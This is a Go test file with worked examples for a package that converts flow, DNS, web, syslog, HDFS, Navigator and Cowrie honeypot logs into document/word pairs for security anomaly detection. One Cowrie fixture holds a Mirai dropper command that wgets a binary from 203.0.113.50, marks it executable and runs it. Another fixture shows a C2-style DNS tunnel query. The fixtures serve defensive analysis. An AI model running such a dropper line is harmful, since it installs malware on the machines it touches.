package words

import (
	"bytes"
	"fmt"
	"os"
	"reflect"
	"strings"
	"testing"
)

// example is a worked example of a recipe: an events row (JSON with the
// table's column names) and the pairs it must give. README.md shows every
// example between the markers of its recipe; TestREADME checks that it
// does, and go test -update rewrites those parts.
type example struct {
	recipe string // flow, dns, web, syslog, hdfs_audit, navigator, cowrie, jsonl
	title  string
	event  string
	allow  []string // Options.AllowDomains
	uaSeen int      // web: how many of the day's rows of the source carried this user agent
	want   []Pair
	why    string
}

var examples = []example{
	// flow
	{
		recipe: "flow", title: "nfdump: a client opens an HTTPS connection",
		event: `{"format":"nfdump","event_time":"2016-05-05T13:54:58Z","src_ip":"10.0.2.15","src_port":49812,"dst_ip":"93.184.216.34","dst_port":443,"proto":"tcp","flow_bytes":2346,"flow_packets":14}`,
		want:  []Pair{{"10.0.2.15", "443_6_13_12_4"}, {"93.184.216.34", "-1_443_6_13_12_4"}},
		why: "443 is at most 1024 and 49812 is above, so the key port is 443, and the destination, " +
			"which holds it, gets the word with `-1_`. tcp is 6, the hour is 13, " +
			"2346 bytes give ceil(log2(2347)) = 12 and 14 packets ceil(log2(15)) = 4.",
	},
	{
		recipe: "flow", title: "vpcflow: the server's side of an SSH session",
		event: `{"format":"vpcflow","event_time":"2014-12-14T04:06:50Z","src_ip":"172.31.16.21","src_port":22,"dst_ip":"172.31.16.139","dst_port":20641,"proto":"tcp","flow_bytes":4249,"flow_packets":20,"action":"ACCEPT"}`,
		want:  []Pair{{"172.31.16.21", "-1_22_6_4_13_5"}, {"172.31.16.139", "22_6_4_13_5"}},
		why: "VPC flow logs record each direction as its own flow. Here the source holds the low " +
			"port 22, so the source gets `-1_`: both directions of the session make the same two " +
			"words for the same two documents. 4249 bytes give 13, 20 packets 5.",
	},
	{
		recipe: "flow", title: "nfdump: ICMP, no ports",
		event: `{"format":"nfdump","event_time":"2016-05-05T13:55:01Z","src_ip":"10.0.2.99","src_port":0,"dst_ip":"10.0.2.15","proto":"icmp","flow_bytes":336,"flow_packets":4}`,
		want:  []Pair{{"10.0.2.99", "0_1_13_9_3"}, {"10.0.2.15", "0_1_13_9_3"}},
		why: "nfdump writes port 0 for one side of an ICMP flow and nothing for the other " +
			"(its type and code go to attrs); an absent port counts as 0. Both 0: key 0, no side " +
			"is the server. icmp is 1, 336 bytes give 9, 4 packets 3.",
	},
	{
		recipe: "flow", title: "nfdump: both ports high",
		event: `{"format":"nfdump","event_time":"2016-05-05T23:10:00Z","src_ip":"10.1.1.1","src_port":40000,"dst_ip":"10.1.1.2","dst_port":50000,"proto":"udp","flow_bytes":1000,"flow_packets":3}`,
		want:  []Pair{{"10.1.1.1", "333333_17_23_10_2"}, {"10.1.1.2", "333333_17_23_10_2"}},
		why:   "Both ports above 1024: key 333333 and no `-1_`. udp is 17; 1000 bytes give 10, 3 packets 2.",
	},
	{
		recipe: "flow", title: "nfdump: both ports low (NTP)",
		event: `{"format":"nfdump","event_time":"2016-05-05T15:00:01Z","src_ip":"10.1.1.1","src_port":123,"dst_ip":"10.1.1.3","dst_port":123,"proto":"udp","flow_bytes":76,"flow_packets":1}`,
		want:  []Pair{{"10.1.1.1", "111111_17_15_7_1"}, {"10.1.1.3", "111111_17_15_7_1"}},
		why:   "Both ports at most 1024 (and not both 0): key 111111.",
	},
	{
		recipe: "flow", title: "vpcflow: GRE over IPv6, protocol given as a number",
		event: `{"format":"vpcflow","event_time":"2015-05-29T16:30:27Z","src_ip":"2001:db8::1","src_port":0,"dst_ip":"2001:db8::2","dst_port":0,"proto":"47","flow_bytes":1200,"flow_packets":2,"action":"ACCEPT"}`,
		want:  []Pair{{"2001:db8::1", "0_47_16_11_2"}, {"2001:db8::2", "0_47_16_11_2"}},
		why:   "A protocol the parser only knows by number stays that number (47 is GRE). IPv6 documents are the canonical text of the address.",
	},

	// dns
	{
		recipe: "dns", title: "Spot's sample: an A query",
		event: `{"format":"dns","event_time":"2017-01-10T16:52:21.593834Z","src_ip":"10.0.0.1","dst_ip":"10.0.0.25","dns_query":"www.example.com","dns_qtype":"A","dns_rcode":"NOERROR","dns_frame_len":98}`,
		want:  []Pair{{"10.0.0.25", "0_6_16_2_0_1_A_NOERROR"}},
		why: "The client 10.0.0.25 (the response's destination) is the document. example.com is not " +
			"on the popular list: class 0. 98 bytes: floor(log2(98)) = 6. The subdomain `www` has " +
			"3 characters, floor(log2(4)) = 2, and one repeated character, entropy 0: bin 0. " +
			"3 labels: floor(log2(3)) = 1.",
	},
	{
		recipe: "dns", title: "a popular domain",
		event: `{"format":"dns","event_time":"2017-01-10T16:52:24.000001Z","src_ip":"10.0.0.1","dst_ip":"10.0.0.31","dns_query":"www.github.com","dns_qtype":"CNAME","dns_rcode":"NOERROR","dns_frame_len":145}`,
		want:  []Pair{{"10.0.0.31", "1_7_16_2_0_1_CNAME_NOERROR"}},
		why:   "github.com is on the embedded popular list: class 1.",
	},
	{
		recipe: "dns", title: "an allow-listed (company) domain",
		event: `{"format":"dns","event_time":"2026-11-21T09:15:00Z","src_ip":"10.0.0.53","dst_ip":"10.0.8.14","dns_query":"wiki.eu.corp.example","dns_qtype":"A","dns_rcode":"NOERROR","dns_frame_len":90}`,
		allow: []string{"corp.example"},
		want:  []Pair{{"10.0.8.14", "2_6_9_3_3_2_A_NOERROR"}},
		why: "With `AllowDomains: [corp.example]` the name is class 2. `example` is no public " +
			"suffix, so the PSL's default rule makes it the suffix: the registrable domain is " +
			"corp.example and the subdomain `wiki.eu` (7 characters: floor(log2(8)) = 3; " +
			"entropy 2.52 bits: bin 3). 4 labels: 2.",
	},
	{
		recipe: "dns", title: "a tunnel-like TXT query",
		event: `{"format":"dns","event_time":"2026-11-21T03:02:01Z","src_ip":"10.0.0.53","dst_ip":"10.0.8.77","dns_query":"mzxw6ytboi2dsnrtgq3tkmzxw6yt.t.example-c2.net","dns_qtype":"TXT","dns_rcode":"NOERROR","dns_frame_len":230}`,
		want:  []Pair{{"10.0.8.77", "0_7_3_4_5_2_TXT_NOERROR"}},
		why: "A long, varied subdomain (30 characters: length bin 4; more than 4 bits: entropy bin 5) " +
			"under an unknown domain, a TXT query at 3 in the morning: every part of the word is unusual.",
	},
	{
		recipe: "dns", title: "a bucket under a private public suffix",
		event: `{"format":"dns","event_time":"2026-11-21T12:00:00Z","src_ip":"10.0.0.53","dst_ip":"10.0.8.20","dns_query":"logs-2026.s3.amazonaws.com.","dns_qtype":"A","dns_rcode":"NOERROR","dns_frame_len":120}`,
		want:  []Pair{{"10.0.8.20", "1_6_12_3_4_2_A_NOERROR"}},
		why: "The trailing dot is dropped. s3.amazonaws.com is in the PSL's private section, " +
			"which the recipe sets aside: the registrable domain is amazonaws.com (popular, " +
			"class 1) and the bucket is part of the subdomain `logs-2026.s3`.",
	},
	{
		recipe: "dns", title: "a reverse lookup",
		event: `{"format":"dns","event_time":"2017-01-10T16:52:26.75Z","src_ip":"10.0.0.1","dst_ip":"10.0.0.40","dns_query":"25.0.0.10.in-addr.arpa","dns_qtype":"PTR","dns_rcode":"NOERROR","dns_frame_len":113}`,
		want:  []Pair{{"10.0.0.40", "0_6_16_2_2_2_PTR_NOERROR"}},
		why:   "in-addr.arpa is a public suffix: the registrable domain is 10.in-addr.arpa and the subdomain `25.0.0`.",
	},
	{
		recipe: "dns", title: "an error response without a question",
		event: `{"format":"dns","event_time":"2017-01-10T16:52:22.001Z","src_ip":"10.0.0.1","dst_ip":"10.0.0.25","dns_rcode":"NXDOMAIN","dns_frame_len":132}`,
		want:  []Pair{{"10.0.0.25", "0_7_16_0_0_0_-_NXDOMAIN"}},
		why:   "No name: class 0, empty subdomain (length bin 0, entropy bin 0), 0 labels (bin 0), and `-` for the missing type.",
	},

	// web
	{
		recipe: "web", title: "squid: a page",
		event:  `{"format":"squid","source":"proxy","event_time":"2016-04-25T09:26:22.642Z","src_ip":"10.0.0.4","http_method":"GET","http_url":"http://www.cnn.com/","http_host":"www.cnn.com","http_status":200,"http_content_type":"text/html","http_user_agent":"Mozilla/5.0 (Windows NT 10.0; Win64; x64)","action":"TCP_MISS"}`,
		uaSeen: 40,
		want:   []Pair{{"10.0.0.4", "0_9_GET_0_html_5_1_200"}},
		why: "cnn.com is not on the popular list: class 0. The path `/` has entropy 0 and length 1 " +
			"(floor(log2(2)) = 1). The user agent was seen 40 times that day: floor(log2(40)) = 5.",
	},
	{
		recipe: "web", title: "squid: an image from a popular site",
		event:  `{"format":"squid","source":"proxy","event_time":"2016-04-25T14:00:00Z","src_ip":"10.0.0.4","http_method":"GET","http_url":"http://www.google.com/images/branding/logo.png?x=1","http_host":"www.google.com","http_status":200,"http_content_type":"image/png","http_user_agent":"Mozilla/5.0 (Windows NT 10.0; Win64; x64)","action":"TCP_MISS"}`,
		uaSeen: 1000,
		want:   []Pair{{"10.0.0.4", "1_14_GET_5_image_9_4_200"}},
		why:    "The path and query `/images/branding/logo.png?x=1` (29 characters) is what the entropy and length are taken of.",
	},
	{
		recipe: "web", title: "squid: a CONNECT tunnel without a user agent",
		event:  `{"format":"squid","source":"proxy","event_time":"2016-04-25T09:28:20.001Z","src_ip":"192.168.1.10","http_method":"CONNECT","http_url":"www.google.com:443","http_host":"www.google.com","http_status":200,"action":"TCP_TUNNEL"}`,
		uaSeen: 3,
		want:   []Pair{{"192.168.1.10", "1_9_CONNECT_0_none_1_0_200"}},
		why: "A CONNECT target is an authority, not a path: the URI is empty (entropy 0, length 0). " +
			"No user agent is a user agent too: it was counted 3 times that day (bin 1). No content type: `none`.",
	},
	{
		recipe: "web", title: "apache: a request to our own server",
		event:  `{"format":"apache","source":"web","event_time":"2015-05-17T10:05:03Z","src_ip":"83.149.9.216","http_method":"GET","http_url":"/presentations/logstash-monitorama-2013/images/kibana-search.png","http_status":200,"http_user_agent":"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/32.0.1700.77 Safari/537.36"}`,
		uaSeen: 12,
		want:   []Pair{{"83.149.9.216", "0_10_GET_5_none_3_6_200"}},
		why: "An access log has no host (every request is to the server itself) and no content " +
			"type: class 0 and `none` for every row, which keeps these parts constant.",
	},
	{
		recipe: "web", title: "apache: a rare client posting to a login page",
		event:  `{"format":"apache","source":"web","event_time":"2015-05-17T03:12:40Z","src_ip":"203.0.113.66","http_method":"POST","http_url":"/wp-login.php","http_status":200,"http_user_agent":"python-requests/2.31.0"}`,
		uaSeen: 1,
		want:   []Pair{{"203.0.113.66", "0_3_POST_4_none_0_3_200"}},
		why:    "A user agent seen once that day: floor(log2(1)) = 0.",
	},

	// syslog
	{
		recipe: "syslog", title: "sshd: a failed password",
		event: `{"format":"syslog","event_time":"2026-02-20T08:35:22Z","app":"sshd","dvc_host":"slave22","message":"Failed password for root from 216.160.83.57 port 29160 ssh2","src_ip":"216.160.83.57","src_port":29160,"user_name":"root"}`,
		want:  []Pair{{"216.160.83.57", "sshd_-_8_26dcbc80"}},
		why: "sshd named the remote address, so it is the document (not the host that logged " +
			"the line). No severity (RFC 3164 without PRI): `-`.",
	},
	{
		recipe: "syslog", title: "Cisco ASA: a connection teardown",
		event: `{"format":"syslog","event_time":"2026-01-05T08:52:35Z","app":"ASA","dvc_host":"10.22.8.201","event_type":"%ASA-6-302014","severity":"info","message":"Teardown TCP connection 488167725 for Outside_VPN:147.111.72.16/26436 to DMZ-Inside:10.22.8.53/443 duration 0:00:00 bytes 9687 TCP FINs"}`,
		want:  []Pair{{"10.22.8.201", "ASA_info_8_10486813"}},
		why: "No source address in the columns: the device is the document. The ASA tag is part " +
			"of the template id; every teardown of this shape, whatever its addresses, ports, " +
			"duration and byte count, has the same id.",
	},
	{
		recipe: "syslog", title: "sudo on a host",
		event: `{"format":"syslog","event_time":"2026-02-21T23:35:33Z","app":"sudo","dvc_host":"localhost","message":"vagrant : TTY=pts/0 ; PWD=/home/vagrant ; USER=root ; COMMAND=/bin/ls"}`,
		want:  []Pair{{"localhost", "sudo_-_23_a4daa2c4"}},
		why:   "User names and paths are words of the template, not values: another user or command is another template.",
	},
	{
		recipe: "syslog", title: "RFC 5424 with a UUID as the program",
		event: `{"format":"syslog","event_time":"2014-06-20T09:14:08Z","app":"d0602076-b14a-4c55-852a-981e7afeed40","dvc_host":"loggregator","event_type":"MSG-02","severity":"info","message":"Removing instance"}`,
		want:  []Pair{{"loggregator", "#_info_9_27888da1"}},
		why:   "Values in the program name are replaced as in templates: the UUID becomes `#`.",
	},

	// hdfs_audit
	{
		recipe: "hdfs_audit", title: "the superuser creates another user's home",
		event: `{"format":"hdfs_audit","event_time":"2015-04-24T12:49:20.686Z","user_name":"hdfs","src_ip":"10.0.2.15","event_type":"mkdirs","action":"allowed","file_path":"/user/ambari-qa"}`,
		want:  []Pair{{"hdfs", "mkdirs_allowed_12_2_home"}},
		why:   "Depth 2; /user/ambari-qa is a home, not hdfs's own.",
	},
	{
		recipe: "hdfs_audit", title: "a denied read in the warehouse",
		event: `{"format":"hdfs_audit","event_time":"2015-04-24T12:50:00.001Z","user_name":"alice","src_ip":"10.0.2.15","event_type":"open","action":"denied","file_path":"/apps/hive/warehouse/secret"}`,
		want:  []Pair{{"alice", "open_denied_12_4_other"}},
	},
	{
		recipe: "hdfs_audit", title: "a Kerberos user in their own home",
		event: `{"format":"hdfs_audit","event_time":"2015-04-24T18:30:00Z","user_name":"alice@EXAMPLE.COM","src_ip":"10.0.2.15","event_type":"delete","action":"allowed","file_path":"hdfs://nameservice1/user/alice/.Trash/x"}`,
		want:  []Pair{{"alice@EXAMPLE.COM", "delete_allowed_18_4_own"}},
		why: "The scheme and name service are dropped from the path; the principal's short name " +
			"alice owns /user/alice.",
	},
	{
		recipe: "hdfs_audit", title: "no user: the client address",
		event: `{"format":"hdfs_audit","event_time":"2015-04-24T12:50:00.004Z","src_ip":"10.0.2.16","event_type":"listStatus","action":"allowed","file_path":"/"}`,
		want:  []Pair{{"10.0.2.16", "listStatus_allowed_12_0_root"}},
	},

	// navigator
	{
		recipe: "navigator", title: "Hive: a denied CREATE TABLE AS SELECT",
		event: `{"format":"navigator","event_time":"2026-11-21T08:05:00Z","app":"hive","event_type":"CREATETABLE_AS_SELECT","action":"denied","user_name":"bob","src_ip":"10.1.2.4","file_path":"hdfs://nameservice1/user/hive/warehouse/pii.db/customers_copy","message":"CREATE TABLE pii.customers_copy AS SELECT * FROM pii.customers"}`,
		want:  []Pair{{"bob", "hive_CREATETABLE-AS-SELECT_denied_8_create"}},
		why:   "`_` separates the parts of a word, so the `_` of the operation becomes `-`.",
	},
	{
		recipe: "navigator", title: "HDFS through Cloudera Manager's service name",
		event: `{"format":"navigator","event_time":"2015-04-23T14:46:13Z","app":"HDFS-1","event_type":"setPermission","action":"allowed","user_name":"hdfs","src_ip":"10.20.30.40","file_path":"/user/hive"}`,
		want:  []Pair{{"hdfs", "hdfs_setPermission_allowed_14_-"}},
		why:   "`HDFS-1` is the service `hdfs`; no statement: `-`.",
	},
	{
		recipe: "navigator", title: "Impala: a query",
		event: `{"format":"navigator","event_time":"2026-11-21T08:06:40.5Z","app":"impala","event_type":"QUERY","action":"allowed","user_name":"carol@EXAMPLE.COM","src_ip":"10.1.2.5","message":"select count(*) from web.logs where dt='2026-11-21'"}`,
		want:  []Pair{{"carol@EXAMPLE.COM", "impala_QUERY_allowed_8_read"}},
	},
	{
		recipe: "navigator", title: "Sentry: a grant",
		event: `{"format":"navigator","event_time":"2026-11-21T08:10:00Z","app":"sentry","event_type":"GRANT_PRIVILEGE","action":"allowed","user_name":"admin","src_ip":"10.1.2.7","message":"GRANT SELECT ON TABLE web.logs TO ROLE analysts"}`,
		want:  []Pair{{"admin", "sentry_GRANT-PRIVILEGE_allowed_8_acl"}},
	},

	// cowrie
	{
		recipe: "cowrie", title: "a failed login over telnet",
		event: `{"format":"cowrie","event_time":"2026-11-21T04:00:00.0001Z","event_type":"cowrie.login.failed","action":"failed","src_ip":"2001:db8:85a3::8a2e:370:7334","user_name":"admin","message":"login attempt [admin/admin1234] failed","proto":"telnet"}`,
		want:  []Pair{{"2001:db8:85a3::8a2e:370:7334", "login.failed_failed_4_-"}},
	},
	{
		recipe: "cowrie", title: "a dropper command line",
		event: `{"format":"cowrie","event_time":"2026-11-21T05:10:00Z","event_type":"cowrie.command.input","src_ip":"198.51.100.23","message":"CMD: cd /tmp; wget http://203.0.113.50/bins/mirai.x86; chmod +x mirai.x86; ./mirai.x86","input":"cd /tmp; wget http://203.0.113.50/bins/mirai.x86; chmod +x mirai.x86; ./mirai.x86"}`,
		want:  []Pair{{"198.51.100.23", "command.input_-_5_download"}},
		why: "Four commands: cd (shell), wget (download), chmod (exec), ./mirai.x86 (exec): the " +
			"line takes the highest class, download.",
	},
	{
		recipe: "cowrie", title: "reconnaissance, read from the message",
		event: `{"format":"cowrie","event_time":"2026-11-21T06:00:00Z","event_type":"cowrie.command.input","src_ip":"192.0.2.78","message":"CMD: uname -a"}`,
		want:  []Pair{{"192.0.2.78", "command.input_-_6_recon"}},
		why:   "Without the input attribute the command is read from the message after `CMD: `.",
	},
	{
		recipe: "cowrie", title: "a new connection",
		event: `{"format":"cowrie","event_time":"2026-11-21T03:59:59.999999Z","event_type":"cowrie.session.connect","src_ip":"198.51.100.23","src_port":51234,"dst_ip":"2001:db8::10","dst_port":23,"message":"New connection: 198.51.100.23:51234 (2001:db8::10:23) [session: 77aa01bc2d3e]","proto":"telnet"}`,
		want:  []Pair{{"198.51.100.23", "session.connect_-_3_-"}},
	},

	// jsonl
	{
		recipe: "jsonl", title: "an audit event with a user",
		event: `{"format":"jsonl","event_time":"2026-11-21T10:13:20Z","event_type":"repo.push","user_name":"dave","src_ip":"198.51.100.20","http_status":200}`,
		want:  []Pair{{"dave", "repo.push_-_10"}},
	},
	{
		recipe: "jsonl", title: "no event type: the app instead",
		event: `{"format":"jsonl","event_time":"2026-11-21T10:00:00.123Z","app":"sshd","user_name":"alice","src_ip":"203.0.113.9","message":"login failed","severity":"warn"}`,
		want:  []Pair{{"alice", "sshd_-_10"}},
	},
	{
		recipe: "jsonl", title: "no user: the source address",
		event: `{"format":"jsonl","event_time":"2026-11-21T10:00:04.25Z","event_type":"flow","action":"ACCEPT","src_ip":"10.0.0.8","dst_ip":"10.0.0.9","flow_bytes":123456,"flow_packets":120}`,
		want:  []Pair{{"10.0.0.8", "flow_ACCEPT_10"}},
	},
}

// run gives the example's pairs: a fresh Stats with its options that
// observed its row uaSeen times.
func (e example) run(t *testing.T) (Row, *Stats, []Pair) {
	t.Helper()
	r, unknown, err := rowFromEvent([]byte(e.event))
	if err != nil {
		t.Fatalf("%s: %v", e.title, err)
	}
	if len(unknown) > 0 {
		t.Fatalf("%s: columns the recipes do not read: %v", e.title, unknown)
	}
	s := NewStats(Options{AllowDomains: e.allow})
	for range e.uaSeen {
		s.Observe(&r)
	}
	return r, s, s.Words(nil, &r)
}

func TestExamples(t *testing.T) {
	for _, e := range examples {
		_, _, got := e.run(t)
		if !reflect.DeepEqual(got, e.want) {
			t.Errorf("%s / %s:\n got  %q\n want %q", e.recipe, e.title, got, e.want)
		}
	}
}

// details are the intermediate values of a recipe for one row, computed by
// the recipe's own functions, for the README.
func details(r *Row, s *Stats) string {
	var d []string
	switch r.Format {
	case "dns":
		name := normName(r.DNSQuery)
		reg, sub := splitDomain(name)
		d = append(d, fmt.Sprintf("registrable domain `%s`, subdomain `%s` (length %d, entropy %.2f bits)",
			reg, sub, len(sub), entropy(sub)))
	case "apache", "squid":
		host := hostOf(r.HTTPHost, r.HTTPURL, r.HTTPMethod)
		reg, _ := splitDomain(host)
		uri := pathQuery(r.HTTPURL, r.HTTPMethod)
		d = append(d, fmt.Sprintf("host `%s` (registrable `%s`), URI `%s` (length %d, entropy %.2f bits), user agent seen %d times",
			host, reg, uri, len(uri), entropy(uri), s.userAgentCount(r.Source, r.HTTPUserAgent)))
	case "syslog":
		_, tmpl := Template(r.EventType, r.Message)
		d = append(d, fmt.Sprintf("template `%s`", tmpl))
	case "hdfs_audit":
		p := stripScheme(r.FilePath)
		d = append(d, fmt.Sprintf("path `%s`, depth %d, owner class `%s`", p, pathDepth(p), pathOwner(p, r.UserName)))
	case "cowrie":
		if strings.HasPrefix(r.EventType, "cowrie.command.") {
			d = append(d, fmt.Sprintf("command `%s`", commandInput(r)))
		}
	}
	return strings.Join(d, "; ")
}

// renderExamples renders the examples of one recipe as markdown.
func renderExamples(t *testing.T, recipe string) string {
	var b strings.Builder
	for _, e := range examples {
		if e.recipe != recipe {
			continue
		}
		r, s, got := e.run(t)
		fmt.Fprintf(&b, "\n**%s**\n\n```json\n%s\n```\n\n", e.title, e.event)
		if e.allow != nil {
			fmt.Fprintf(&b, "Options: `AllowDomains: %v`.\n", e.allow)
		}
		if e.uaSeen > 0 {
			fmt.Fprintf(&b, "The day's statistics counted this user agent %d times.\n", e.uaSeen)
		}
		if d := details(&r, s); d != "" {
			fmt.Fprintf(&b, "Computed: %s.\n", d)
		}
		b.WriteString("\n| document | word |\n|---|---|\n")
		for _, p := range got {
			fmt.Fprintf(&b, "| `%s` | `%s` |\n", p.Doc, p.Word)
		}
		if e.why != "" {
			fmt.Fprintf(&b, "\n%s\n", e.why)
		}
	}
	return b.String()
}

// TestREADME checks that README.md shows every example as the recipes make
// it today; go test -update rewrites the parts between the markers
// <!-- examples:RECIPE --> and <!-- /examples:RECIPE -->.
func TestREADME(t *testing.T) {
	const path = "../README.md" // the stage README documents the recipes
	doc, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	out := doc
	seen := map[string]bool{}
	for _, e := range examples {
		if seen[e.recipe] {
			continue
		}
		seen[e.recipe] = true
		open, end := []byte("<!-- examples:"+e.recipe+" -->\n"), []byte("<!-- /examples:"+e.recipe+" -->")
		i := bytes.Index(out, open)
		j := bytes.Index(out, end)
		if i < 0 || j < i {
			t.Errorf("README.md has no %s ... %s", open, end)
			continue
		}
		i += len(open)
		gen := []byte(renderExamples(t, e.recipe) + "\n")
		out = append(append(append([]byte{}, out[:i]...), gen...), out[j:]...)
	}
	if bytes.Equal(out, doc) {
		return
	}
	if *update {
		if err := os.WriteFile(path, out, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	t.Errorf("README.md's examples differ from what the recipes make: run go test -update and review the diff")
}
